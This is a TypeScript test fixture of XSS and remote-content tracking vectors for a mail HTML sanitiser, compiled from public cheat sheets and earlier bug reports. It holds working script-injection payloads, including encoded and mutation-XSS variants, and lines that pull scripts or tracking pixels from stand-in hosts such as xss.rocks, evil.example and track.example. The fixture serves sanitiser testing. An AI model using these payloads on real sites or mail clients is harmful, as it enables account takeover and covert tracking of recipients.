// Known XSS and "call home" vectors for the mail HTML sanitiser, drawn from the
// OWASP XSS Filter Evasion Cheat Sheet, the PortSwigger XSS cheat sheet and the
// HTML5 Security Cheatsheet (html5sec.org), plus the cases reported against the
// old regular-expression sanitiser. Test fixture only.
export interface XssVector {
  name: string;
  html: string;
}

const b64Script = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='; // <script>alert(1)</script>

export const reportedVectors: XssVector[] = [
  { name: 'reported: no space before onerror', html: '<img src="x"onerror="alert(1)">' },
  { name: 'reported: slashes as attribute separators', html: '<img/src="x"/onerror=alert(1)>' },
  { name: 'reported: entity-encoded javascript: href', html: '<a href="jav&#x61;script:alert(1)">go</a>' },
  {
    name: 'reported: srcset tracker',
    html: '<img srcset="https://track.example/a.png 1x, https://track.example/b.png 2x">',
  },
  { name: 'reported: protocol-relative image', html: '<img src="//track.example/p.gif">' },
  { name: 'reported: CSS background url', html: '<div style="background:url(https://track.example/p.gif)">x</div>' },
  {
    name: 'reported: background attribute',
    html: '<table background="https://track.example/bg.png"><tr><td>x</td></tr></table>',
  },
  { name: 'reported: poster attribute', html: '<video poster="https://track.example/poster.png"></video>' },
];

export const xssVectors: XssVector[] = [
  ...reportedVectors,
  // Script elements and parser confusion
  { name: 'plain script', html: '<script>alert(1)</script>' },
  { name: 'remote script', html: '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>' },
  { name: 'script with slash attribute', html: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>' },
  { name: 'extra open angle bracket', html: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { name: 'unclosed script tag', html: '<SCRIPT SRC=http://xss.rocks/xss.js?< B >' },
  { name: 'nested split script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'title breakout', html: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { name: 'malformed IMG quotes', html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
  // Event handlers
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'onerror with eval(src)', html: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { name: 'body onload with junk chars', html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { name: 'svg onload', html: "<svg/onload=alert('XSS')>" },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { name: 'div slash onmouseover', html: '<div/onmouseover=\'alert(1)\'> style="x:">hover</div>' },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'keygen autofocus onfocus', html: '<keygen autofocus onfocus=alert(1)>' },
  { name: 'audio onerror', html: '<audio src=x onerror=alert(1)></audio>' },
  { name: 'video source onerror', html: '<video><source src=x onerror=alert(1)></video>' },
  { name: 'isindex onerror', html: '<isindex type=image src=1 onerror=alert(1)>' },
  { name: 'good link with onclick', html: '<a href="https://ok.example/" onclick="alert(1)">ok</a>' },
  // javascript:, vbscript:, data:text/html URLs and their obfuscations
  { name: 'img javascript: src', html: '<IMG SRC="javascript:alert(\'XSS\');">' },
  { name: 'mixed case javascript:', html: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
  { name: 'backtick javascript:', html: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>' },
  {
    name: 'decimal entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">x</a>',
  },
  {
    name: 'long decimal entities without semicolons',
    html: '<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>x</a>',
  },
  {
    name: 'hex entities without semicolons',
    html: '<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>x</a>',
  },
  { name: 'embedded tab', html: '<a href="jav\tascript:alert(1)">x</a>' },
  { name: 'encoded tab', html: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'encoded newline', html: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
  { name: 'named Tab/NewLine entities', html: '<a href="java&Tab;scr&NewLine;ipt:alert(1)">x</a>' },
  { name: 'named colon entity', html: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'numeric colon entity', html: '<a href="javascript&#58;alert(1)">x</a>' },
  { name: 'leading spaces and control char', html: '<a href=" &#14;  javascript:alert(1)">x</a>' },
  { name: 'vbscript:', html: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'data:text/html base64 link', html: `<a href="data:text/html;base64,${b64Script}">x</a>` },
  { name: 'data:text/html mixed case', html: '<a href="DaTa:TeXt/HtMl,<script>alert(1)</script>">x</a>' },
  { name: 'data:image/svg+xml image', html: '<img src="data:image/svg+xml,<svg onload=alert(1)>">' },
  { name: 'input type=image', html: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">' },
  { name: 'body background javascript:', html: '<BODY BACKGROUND="javascript:alert(\'XSS\')">' },
  { name: 'img dynsrc', html: '<IMG DYNSRC="javascript:alert(\'XSS\')">' },
  { name: 'img lowsrc', html: '<IMG LOWSRC="javascript:alert(\'XSS\')">' },
  { name: 'table background javascript:', html: '<TABLE BACKGROUND="javascript:alert(\'XSS\')">' },
  { name: 'td background javascript:', html: '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">' },
  // svg and math
  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg xlink:href',
    html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  },
  {
    name: 'svg animate href',
    html: '<svg><animate attributeName=href values="javascript:alert(1)"/><a><text>x</text></a></svg>',
  },
  { name: 'math href', html: '<math href="javascript:alert(1)">CLICK</math>' },
  {
    name: 'math maction xlink:href',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  },
  { name: 'math mglyph style mXSS', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  // frames, objects, forms, meta, base, link
  { name: 'iframe javascript:', html: '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>' },
  { name: 'iframe unclosed', html: '<iframe src=http://xss.rocks/scriptlet.html <' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { name: 'frameset', html: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>' },
  {
    name: 'object scriptlet',
    html: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  },
  { name: 'object javascript: data', html: '<object data="javascript:alert(1)"></object>' },
  {
    name: 'embed svg data',
    html: `<EMBED SRC="data:image/svg+xml;base64,${b64Script}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  },
  { name: 'embed javascript:', html: '<embed src="javascript:alert(1)">' },
  { name: 'form action', html: '<form action="javascript:alert(1)"><input type=submit></form>' },
  { name: 'button formaction', html: '<form><button formaction="javascript:alert(1)">X</button></form>' },
  { name: 'meta refresh javascript:', html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">' },
  {
    name: 'meta refresh data:',
    html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${b64Script}">`,
  },
  { name: 'base href javascript:', html: '<BASE HREF="javascript:alert(\'XSS\');//">' },
  { name: 'base href remote', html: '<base href="https://evil.example/"><a href="x">x</a>' },
  { name: 'link stylesheet', html: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">' },
  { name: 'link import', html: '<link rel=import href="https://evil.example/x.html">' },
  // CSS
  {
    name: 'style element list-style-image',
    html: '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  },
  { name: 'style import', html: '<style>@import "https://track.example/x.css";</style><p>x</p>' },
  {
    name: 'style background-image javascript:',
    html: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>',
  },
  {
    name: 'style CSS escapes',
    html: '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">x</DIV>',
  },
  { name: 'style expression', html: '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>' },
  { name: 'style expression with comment', html: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">' },
  { name: 'style escaped expression', html: '<div style="width:\\65xpression(alert(1))">x</div>' },
  { name: 'style protocol-relative url', html: '<p style="background:url(//track.example/p.gif)">x</p>' },
  { name: 'style escaped url', html: '<p style="background: u\\rl(https://track.example/p.gif)">x</p>' },
  { name: 'style behavior', html: '<p style="behavior: url(xss.htc)">x</p>' },
  { name: 'style -moz-binding', html: '<p style="-moz-binding: url(https://evil.example/xss.xml#xss)">x</p>' },
  {
    name: 'style image-set',
    html: '<p style="color:red;background-image:image-set(\'https://track.example/x.png\' 1x)">x</p>',
  },
  {
    name: 'style url in allowed property',
    html: "<p style=\"font-family: 'x'; border: url('https://track.example/b')\">x</p>",
  },
  // Remote content in other places
  { name: 'remote img src', html: '<img src="https://track.example/p.gif" width=1 height=1>' },
  { name: 'backslash protocol-relative', html: '<img src="\\\\track.example\\p.gif">' },
  {
    name: 'picture source srcset',
    html: '<picture><source srcset="https://track.example/p.png"><img src="cid:x"></picture>',
  },
  { name: 'td background remote', html: '<table><tr><td background="//track.example/bg.png">x</td></tr></table>' },
  // Comments, CDATA, unclosed tags
  { name: 'comment breakout', html: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'CDATA', html: '<![CDATA[><img src=x onerror=alert(1)//]]>' },
  { name: 'conditional comment', html: "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->" },
  { name: 'noscript title mXSS', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'style raw-text mXSS', html: '<style><img src="</style><img src=x onerror=alert(1)//">' },
  { name: 'unclosed javascript: link', html: '<a href="javascript:alert(1)"' },
  { name: 'unclosed img attribute', html: '<img src="x` `<script>alert(1)</script>"` `>' },
  { name: 'half-open img with javascript:', html: '<IMG SRC="`<javascript:alert>`(\'XSS\')"' },
];
